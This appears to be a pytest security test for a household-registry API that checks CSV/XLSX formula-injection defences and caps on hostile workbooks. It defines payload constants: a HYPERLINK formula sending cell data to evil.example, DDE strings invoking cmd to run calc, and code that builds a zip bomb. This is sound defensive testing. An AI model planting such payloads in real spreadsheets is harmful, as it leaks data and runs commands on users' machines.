"""Hostile registry sheets over the real API (issue 11, items 8 and 9).

Formula injection: values a spreadsheet would run (`=HYPERLINK(...)`, `@SUM(...)`, `-2+3...`)
are imported as they are and exported as text (CSV: after a single quote, every cell quoted;
XLSX: text cells with Excel's quote prefix), and the exports import back as no change.
Hostile workbooks (a zip bomb, a cell at the grid's far corner, a row of 200 columns, a cell
of 5,000 characters) are refused as a whole with a message naming the cap they broke, and
store nothing. The small files are in tests/security/corpus/sheets/; the bomb is made here.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from helpers import SITE
from konenut.app.registry import MAX_XLSX_EXPANDED_BYTES, XLSX_TYPE
from konenut.domain.roles import Role

from .conftest import Site, assert_problem
from .test_registry import upload

CORPUS = Path(__file__).parent.parent / "security" / "corpus" / "sheets"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A3,"Click for details")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
SPLIT = "+1+1;=1+1"  # a semicolon: Excel in semicolon locales would start a cell at =1+1


def test_formula_like_values_are_imported_intact_and_exported_as_text(site: Site) -> None:
    answer = upload(site, (CORPUS / "formula_injection.csv").read_bytes())
    assert answer.status_code == 201, answer.text
    state = site.store.state(SITE)
    household = next(h for h in state.households.values() if h.ref == "h-66")
    people = {p.ref: p for p in state.persons.values() if p.household_id == household.household_id}
    assert (household.name, household.pets) == (HYPERLINK, AT_SUM)
    assert (people["p-66-1"].name, people["p-66-2"].name) == (DDE, SPLIT)

    exported = site.get("/api/v1/site/households/export.csv", Role.ADMIN)
    text = exported.content.decode("utf-8-sig")
    lines = {line.split(",", 1)[0]: line for line in text.split("\r\n") if line}
    assert lines['"h-66"'].startswith('"h-66","\'=HYPERLINK(""https://evil.example')  # quoted
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["household_ref"] == "h-66"]
    assert [(r["name"], r["phone"]) for r in rows] == [
        ("'" + DDE, "'+972501119999"),
        ("'" + SPLIT, ""),
    ]
    assert (rows[0]["household_name"], rows[0]["pets"]) == ("'" + HYPERLINK, "'" + AT_SUM)

    workbook = site.get("/api/v1/site/households/export.xlsx", Role.ADMIN).content
    assert not any(b"<f>" in _sheet_xml(workbook, name) for name in _sheet_names(workbook))
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(workbook)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    person = header.index("person_ref")
    cells = {
        (row[person].value, header[index]): cell
        for row in sheet.iter_rows(min_row=2)
        for index, cell in enumerate(row)
    }
    for column, value in (("household_name", HYPERLINK), ("pets", AT_SUM), ("name", DDE)):
        cell = cells[("p-66-1", column)]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), column
    assert cells[("p-66-1", "person_ref")].quotePrefix is False  # only formula-like values

    before = site.head()
    for data, media_type in ((exported.content, "text/csv"), (workbook, XLSX_TYPE)):
        again = upload(site, data, media_type)
        assert again.status_code == 200, again.text
        assert again.json()["events"] == 0
    assert site.events_after(before) == []


def _sheet_names(workbook: bytes) -> list[str]:
    names = zipfile.ZipFile(io.BytesIO(workbook)).namelist()
    return [n for n in names if n.startswith("xl/worksheets/")]


def _sheet_xml(workbook: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(workbook)).read(name)


@pytest.mark.parametrize(
    ("name", "row", "msg"),
    [
        (
            "far_cell.xlsx",
            200_001,
            "the sheet goes on beyond row 200,000, the cap (blank rows count)",
        ),
        ("wide_row.xlsx", 2, "row 2 has more than 64 columns, the cap"),
        ("long_cell.xlsx", 2, "row 2 has a cell of more than 1,000 characters, the cap"),
    ],
)
def test_a_workbook_beyond_a_cap_is_refused_naming_the_cap(
    site: Site, name: str, row: int, msg: str
) -> None:
    before = site.head()
    answer = upload(site, (CORPUS / name).read_bytes(), XLSX_TYPE)
    body = assert_problem(answer, 422, "invalid-registry")
    assert body["errors"] == [{"row": row, "column": "", "msg": msg}]
    assert site.events_after(before) == []


def test_a_zip_bomb_is_refused_before_it_is_expanded(site: Site) -> None:
    workbook = io.BytesIO((CORPUS / "long_cell.xlsx").read_bytes())
    bomb = io.BytesIO()
    with (
        zipfile.ZipFile(workbook) as source,
        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            target.writestr(member, source.read(member))
        chunk = b" " * 2**20  # XML whitespace: deflate makes 129 MiB of it about 130 KiB
        with target.open("xl/worksheets/padding.xml", "w", force_zip64=True) as padding:
            for _ in range(MAX_XLSX_EXPANDED_BYTES // len(chunk) + 1):
                padding.write(chunk)
    assert len(bomb.getvalue()) < 2**20
    body = assert_problem(upload(site, bomb.getvalue(), XLSX_TYPE), 422, "invalid-registry")
    assert body["errors"] == [
        {
            "row": 1,
            "column": "",
            "msg": "the workbook expands to 129 MiB, over the cap of 128 MiB for an XLSX file: "
            "save it as CSV",
        }
    ]


def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(site: Site) -> None:
    """A workbook is XML 1.0, which cannot hold \\x1e: the export leaves it out instead of
    failing with a 500 (schemathesis stored such a name, and the admin's export broke)."""
    added = site.post(
        "/api/v1/site/households", Role.ADMIN, json={"ref": "h-77", "name": "Co\x1ehen\x0b"}
    )
    assert added.status_code == 201, added.text
    workbook = site.get("/api/v1/site/households/export.xlsx", Role.ADMIN)
    assert workbook.status_code == 200, workbook.text
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(workbook.content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    names = {
        row[0]: row[header.index("household_name")]
        for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert names["h-77"] == "Cohen"
